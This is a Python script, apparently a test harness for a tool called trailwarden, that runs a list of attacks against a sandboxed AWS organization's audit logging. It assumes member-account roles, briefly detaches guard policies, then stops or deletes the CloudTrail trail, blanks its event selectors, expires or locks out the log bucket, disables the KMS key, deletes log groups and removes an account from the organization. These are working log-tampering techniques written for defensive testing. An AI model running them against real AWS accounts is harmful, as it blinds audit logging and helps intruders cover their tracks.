"""Attacks the record of the sandbox's organization `clean` with boto3: a client that knows AWS and not us.

Usage: attacks.py NAME, with the environment variables that `trailwarden sandbox serve` prints.
The attacker holds the management account, which no policy binds, and lifts a guard where one is in the way.
"""

import contextlib
import json
import sys

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

CONFIG = Config(retries={"mode": "standard", "max_attempts": 8}, s3={"addressing_style": "path"})
HOME = "eu-central-1"
ARCHIVE = "227733449955"
VICTIM = "661177883399"
ROOT = "r-cl3n"
TRAIL = "arn:aws:cloudtrail:eu-central-1:116622338844:trail/org-trail"
BUCKET = "clean-org-cloudtrail-227733449955"
KEY = "arn:aws:kms:eu-central-1:227733449955:key/5d0f8a52-2b7c-4b7e-9d0a-6c1f0e4a9b31"
GROUP = "org-trail"
GUARD = "p-cleang1d"
ARCHIVE_GUARD = "p-cl3narchv"


def client(service, region=HOME, session=None):
    return (session or boto3.Session()).client(service, region_name=region, config=CONFIG)


def enter(account):
    arn = f"arn:aws:iam::{account}:role/OrganizationAccountAccessRole"
    keys = client("sts").assume_role(RoleArn=arn, RoleSessionName="intruder")["Credentials"]
    return boto3.Session(keys["AccessKeyId"], keys["SecretAccessKey"], keys["SessionToken"])


@contextlib.contextmanager
def lifted(policy, target):
    """Without this policy for a moment."""
    organizations = client("organizations", "us-east-1")
    organizations.detach_policy(PolicyId=policy, TargetId=target)
    yield
    organizations.attach_policy(PolicyId=policy, TargetId=target)


def stop():
    client("cloudtrail").stop_logging(Name=TRAIL)


def delete():
    client("cloudtrail").delete_trail(Name=TRAIL)


def record_nothing():
    nothing = [{"Type": kind, "Values": []} for kind in ("AWS::S3::Object", "AWS::Lambda::Function")]
    selector = {"ReadWriteType": "ReadOnly", "IncludeManagementEvents": False, "DataResources": nothing}
    client("cloudtrail").put_event_selectors(TrailName=TRAIL, EventSelectors=[selector])


def forget_after_a_day(prefix=""):
    rule = {"ID": "housekeeping", "Status": "Enabled", "Filter": {"Prefix": prefix}, "Expiration": {"Days": 1}}
    with lifted(ARCHIVE_GUARD, ARCHIVE):
        client("s3", session=enter(ARCHIVE)).put_bucket_lifecycle_configuration(
            Bucket=BUCKET, LifecycleConfiguration={"Rules": [rule]}
        )


def forget_what_begins_with_a_star():
    forget_after_a_day("*")


def leave():
    with lifted(GUARD, ROOT):
        client("organizations", "us-east-1", enter(VICTIM)).leave_organization()


def try_to_leave():
    try:
        client("organizations", "us-east-1", enter(VICTIM)).leave_organization()
    except ClientError as error:
        assert error.response["Error"]["Code"] == "AccessDeniedException", error
    else:
        raise AssertionError("the guard let it through")


def remove_the_guard():
    client("organizations", "us-east-1").detach_policy(PolicyId=GUARD, TargetId=ROOT)


def disable_the_key():
    with lifted(ARCHIVE_GUARD, ARCHIVE):
        client("kms", session=enter(ARCHIVE)).disable_key(KeyId=KEY)


def shut_cloudtrail_out():
    """The bucket policy keeps every statement but the one that lets CloudTrail write."""
    with lifted(ARCHIVE_GUARD, ARCHIVE):
        s3 = client("s3", session=enter(ARCHIVE))
        policy = json.loads(s3.get_bucket_policy(Bucket=BUCKET)["Policy"])
        policy["Statement"] = [one for one in policy["Statement"] if one["Sid"] != "AWSCloudTrailWrite"]
        s3.put_bucket_policy(Bucket=BUCKET, Policy=json.dumps(policy))


def delete_the_log_group():
    client("logs").delete_log_group(logGroupName=GROUP)


def shrink_the_retention():
    client("logs").put_retention_policy(logGroupName=GROUP, retentionInDays=1)


def withdraw_trust():
    client("organizations", "us-east-1").disable_aws_service_access(ServicePrincipal="cloudtrail.amazonaws.com")


ATTACKS = [
    stop,
    delete,
    record_nothing,
    forget_after_a_day,
    forget_what_begins_with_a_star,
    leave,
    try_to_leave,
    remove_the_guard,
    disable_the_key,
    shut_cloudtrail_out,
    delete_the_log_group,
    shrink_the_retention,
    withdraw_trust,
]

if __name__ == "__main__":
    {attack.__name__: attack for attack in ATTACKS}[sys.argv[1]]()
